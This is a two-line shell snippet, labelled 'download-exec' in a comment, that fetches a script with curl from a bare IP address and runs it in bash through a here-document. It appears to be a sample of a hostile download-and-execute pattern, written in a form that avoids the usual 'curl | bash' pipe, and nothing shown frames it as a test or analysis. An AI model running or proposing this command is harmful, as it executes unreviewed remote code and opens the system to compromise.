# download-exec: the download is spliced into a here-document fed to bash
bash <<EOF
$(curl -fsSL http://203.0.113.7/hd.sh)
EOF
